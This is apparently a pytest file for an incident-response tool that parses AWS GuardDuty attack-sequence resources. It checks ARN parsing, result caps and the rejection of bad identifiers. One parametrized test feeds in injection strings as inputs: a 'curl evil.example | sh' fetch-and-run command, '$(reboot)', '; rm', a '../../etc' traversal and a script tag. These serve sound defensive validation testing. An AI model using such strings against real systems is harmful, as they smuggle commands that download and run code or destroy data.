"""An attack sequence's resources (`service.detection.sequence.resources`, GuardDuty's ResourceV2) become
`Finding.sequence_resources`, each as the playbooks expect a finding's resource; in every shape GuardDuty sends;
names checked like every identifier irflow acts on; capped; and never a reason to refuse the finding."""

from __future__ import annotations

import copy
import json
from typing import Any

import botocore.session
import pytest
from botocore.validate import ParamValidator

from irflow.devstack.demo_sequence import SAMPLE_ATTACK_SEQUENCE, sample_attack_sequence
from irflow.models.finding import AffectedResource, Finding, parse_guardduty
from irflow.models.sequence_parsing import MAX_SEQUENCE_RESOURCES, resource_finding
from tests.irflow.models.test_finding_shapes import _pascal_keys, as_get_findings

INSTANCE = "i-0a1b2c3d4e5f60718"
KEY = "AKIAQWERTYUIOPASDF12"
ACCOUNT, REGION = "111122223333", "eu-west-1"


def _event(*resources: Any, **sequence: Any) -> dict[str, Any]:
    """The example sequence about this account, naming `resources` instead of its own."""
    event = sample_attack_sequence(INSTANCE, KEY, "alice.martin", ACCOUNT, REGION)
    event["detail"]["service"]["detection"]["sequence"].update(resources=list(resources), **sequence)
    return event


def _parsed(event: dict[str, Any]) -> Finding:
    return parse_guardduty(event).finding


def _resource(uid: str, kind: str, **fields: Any) -> dict[str, Any]:
    return {"uid": uid, "resourceType": kind, "accountId": ACCOUNT, "region": REGION, **fields}


def test_the_example_matches_the_documented_shapes():
    """Every key of the example's sequence is one GuardDuty's service model (botocore) knows, of its type."""
    detection = json.loads(SAMPLE_ATTACK_SEQUENCE.read_text())["detail"]["service"]["detection"]
    model = botocore.session.get_session().get_service_model("guardduty")
    report = ParamValidator().validate(_pascal_keys(detection), model.shape_for("Detection"))
    assert not report.has_errors(), report.generate_report()
    resource_types = model.shape_for("ResourceV2").members["ResourceType"].enum
    assert {r["resourceType"] for r in detection["sequence"]["resources"]} <= set(resource_types)


def test_the_example_names_an_access_key_and_an_instance_as_the_playbooks_expect_them():
    finding = _parsed(sample_attack_sequence(INSTANCE, KEY, "alice.martin", ACCOUNT, REGION))
    assert finding.type == "AttackSequence:IAM/CompromisedCredentials" and finding.severity == "CRITICAL"
    assert finding.resource.resource_type == "AttackSequence"
    key, instance, interface = finding.sequence_resources
    assert key == AffectedResource(
        resource_type="AccessKey",
        resource_id=KEY,
        access_key_id=KEY,
        principal_id="AIDAEXAMPLEPRINCIPAL1",
        user_name="alice.martin",
        user_type="IAMUser",
        account_id=ACCOUNT,
        region=REGION,
    )
    assert (instance.resource_type, instance.instance_id, instance.resource_id) == ("Instance", INSTANCE, INSTANCE)
    assert instance.instance_profile_arn == f"arn:aws:iam::{ACCOUNT}:instance-profile/web-app"
    assert instance.tags == {"Name": "web-1"} and (instance.account_id, instance.region) == (ACCOUNT, REGION)
    assert (interface.resource_type, interface.resource_id) == ("EC2_NETWORK_INTERFACE", "eni-0abc1234def567890")
    assert finding.sequence_resources_named == 3


def test_every_shape_gives_the_same_resources():
    event = sample_attack_sequence(INSTANCE, KEY, "alice.martin", ACCOUNT, REGION)
    enveloped = _parsed(event)
    bare = _parsed(copy.deepcopy(event["detail"]))
    get_findings = _parsed(as_get_findings(event["detail"]))
    assert enveloped.sequence_resources == bare.sequence_resources == get_findings.sequence_resources
    assert len(enveloped.sequence_resources) == 3


def test_old_payloads_and_findings_without_a_sequence_load_with_no_resources():
    finding = _parsed(sample_attack_sequence(INSTANCE, KEY, "alice.martin", ACCOUNT, REGION))
    old = finding.model_dump(mode="json", exclude={"sequence_resources", "sequence_resources_named"})
    del old["resource"]["account_id"], old["resource"]["region"]
    loaded = Finding.model_validate(old)
    assert loaded.sequence_resources == () and loaded.sequence_resources_named == 0
    assert (loaded.resource.account_id, loaded.resource.region) == (None, None)
    stripped = sample_attack_sequence(INSTANCE, KEY, "alice.martin", ACCOUNT, REGION)
    del stripped["detail"]["service"]["detection"]
    assert _parsed(stripped).sequence_resources == ()


def test_ids_are_read_from_arns_and_an_objects_bucket_only_from_its_arn():
    finding = _parsed(
        _event(
            _resource(f"arn:aws:ec2:{REGION}:{ACCOUNT}:instance/{INSTANCE}", "EC2_INSTANCE"),
            _resource("arn:aws:s3:::acme-invoices", "S3_BUCKET", name="acme-invoices"),
            _resource("arn:aws:s3:::acme-uploads/in/a.exe", "S3_OBJECT", name="in/a.exe"),
            _resource("opaque-object-id", "S3_OBJECT", name="in/b.exe"),
            _resource("arn:aws:eks:eu-west-1:111122223333:cluster/prod", "EKS_CLUSTER", name="prod"),
        )
    )
    instance, bucket, obj, unknown_obj, cluster = finding.sequence_resources
    assert instance.instance_id == INSTANCE
    assert (bucket.resource_type, bucket.bucket_names) == ("S3Bucket", ("acme-invoices",))
    assert (obj.resource_type, obj.bucket_names) == ("S3Object", ("acme-uploads",))
    assert unknown_obj.bucket_names == () and unknown_obj.resource_id is None, "'in' is a key, not a bucket"
    assert (cluster.resource_type, cluster.resource_id) == ("EKSCluster", "prod")


@pytest.mark.parametrize(
    ("resource", "left"),
    [
        (_resource("i-0a1b2c3d4e5f60718; curl evil.example | sh", "EC2_INSTANCE"), {"instance_id": None}),
        (_resource("AKIA$(reboot)", "ACCESS_KEY"), {"access_key_id": None, "resource_id": None}),
        (
            _resource(KEY, "ACCESS_KEY", data={"accessKey": {"userName": "bob; drop", "principalId": "x y"}}),
            {"access_key_id": KEY, "user_name": None, "principal_id": None},
        ),
        (_resource("arn:aws:s3:::../../etc", "S3_BUCKET", name="../../etc"), {"bucket_names": ()}),
        (_resource(INSTANCE, "EC2_INSTANCE", accountId="1111; rm"), {"instance_id": None, "account_id": None}),
        (_resource(INSTANCE, "EC2_INSTANCE", cloudPartition="aws-cn"), {"instance_id": None}),
        (_resource(KEY, "ACCESS_KEY", region="global"), {"access_key_id": KEY, "region": None}),
        (_resource("<script>alert(1)</script>", "EC2_VPC"), {"resource_id": None}),
    ],
)
def test_names_aws_would_not_accept_are_left_out_and_the_finding_is_kept(resource, left):
    finding = _parsed(_event(resource))
    [parsed] = finding.sequence_resources
    assert {name: getattr(parsed, name) for name in left} == left
    assert finding.sequence_resources_named == 1


@pytest.mark.parametrize(
    "resources",
    [
        "not a list",
        [None, 7, "i-0a1b2c3d4e5f60718", {"uid": 5, "resourceType": "EC2_INSTANCE"}],
        [{"uid": INSTANCE, "resourceType": "NOT A KIND!"}, {"resourceType": "EC2_INSTANCE"}],
    ],
)
def test_malformed_resources_are_left_out_never_the_finding(resources):
    event = _event()
    event["detail"]["service"]["detection"]["sequence"]["resources"] = resources
    finding = _parsed(event)
    assert finding.sequence_resources == ()
    assert finding.sequence_resources_named == (0 if isinstance(resources, str) else len(resources))


def test_a_long_sequence_is_capped_answerable_kinds_first_and_says_how_many_it_named():
    interfaces = [_resource(f"eni-{n:017x}", "EC2_NETWORK_INTERFACE") for n in range(300)]
    instances = [_resource(f"i-{n:017x}", "EC2_INSTANCE") for n in range(100)]
    finding = _parsed(_event(*interfaces, *instances, _resource(INSTANCE, "EC2_INSTANCE")))
    assert len(finding.sequence_resources) == MAX_SEQUENCE_RESOURCES
    assert {r.resource_type for r in finding.sequence_resources} == {"Instance"}
    assert [r.instance_id for r in finding.sequence_resources[:2]] == ["i-00000000000000000", "i-00000000000000001"]
    assert finding.sequence_resources_named == 401


def test_a_resource_named_twice_is_kept_once():
    twice = _resource(INSTANCE, "EC2_INSTANCE")
    finding = _parsed(_event(twice, dict(twice)))
    assert len(finding.sequence_resources) == 1 and finding.sequence_resources_named == 2


def test_a_resources_finding_is_the_sequence_about_that_resource_where_the_sequence_says():
    elsewhere = _resource(INSTANCE, "EC2_INSTANCE", accountId="444455556666", region="ap-south-1")
    sequence = _parsed(_event(elsewhere, _resource(KEY, "ACCESS_KEY", region=None)))
    instance, key = sequence.sequence_resources
    about_instance = resource_finding(sequence, instance, "sequence-parent-1")
    assert (about_instance.account_id, about_instance.region) == ("444455556666", "ap-south-1")
    assert about_instance.resource == instance and about_instance.type == sequence.type
    assert about_instance.id == sequence.id and about_instance.raw_sha256 == sequence.raw_sha256
    assert about_instance.sequence_resources == () and about_instance.sequence_resources_named == 0
    assert about_instance.sequence_parent == "sequence-parent-1" and sequence.sequence_parent is None
    about_key = resource_finding(sequence, key, "sequence-parent-1")
    assert (about_key.account_id, about_key.region) == (ACCOUNT, REGION), "the sequence's own when it says none"


def _instance_arn(account: str = "444455556666", region: str = "ap-south-1", partition: str = "aws") -> str:
    return f"arn:{partition}:ec2:{region}:{account}:instance/{INSTANCE}"


def test_an_instance_arn_says_where_the_instance_is_when_the_sequence_does_not():
    bare = {"uid": _instance_arn(), "resourceType": "EC2_INSTANCE"}
    [instance] = _parsed(_event(bare)).sequence_resources
    assert (instance.instance_id, instance.account_id, instance.region) == (INSTANCE, "444455556666", "ap-south-1")
    assert instance.refused is None
    agreeing = _resource(_instance_arn(ACCOUNT, REGION), "EC2_INSTANCE")
    [instance] = _parsed(_event(agreeing)).sequence_resources
    assert (instance.instance_id, instance.account_id, instance.region) == (INSTANCE, ACCOUNT, REGION)


@pytest.mark.parametrize(
    ("arn", "why"),
    [
        (_instance_arn(account="444455556666", region=REGION), f"account 444455556666, the sequence {ACCOUNT}"),
        (_instance_arn(account=ACCOUNT, region="ap-south-1"), f"region ap-south-1, the sequence {REGION}"),
        (
            _instance_arn(account=ACCOUNT, region=REGION, partition="aws-cn"),
            "its ARN is in aws-cn, the sequence in aws",
        ),
    ],
)
def test_an_instance_whose_arn_contradicts_the_sequence_is_refused_saying_why(arn, why):
    [instance] = _parsed(_event(_resource(arn, "EC2_INSTANCE"))).sequence_resources
    assert instance.instance_id is None and instance.account_id is None, "nothing a playbook could act on"
    assert instance.resource_id == INSTANCE and why in instance.refused, instance.refused


def test_only_an_ec2_instance_arn_names_an_instance():
    lookalike = _resource(f"arn:aws:s3:::bucket:instance/{INSTANCE}", "EC2_INSTANCE")
    [instance] = _parsed(_event(lookalike)).sequence_resources
    assert instance.instance_id is None
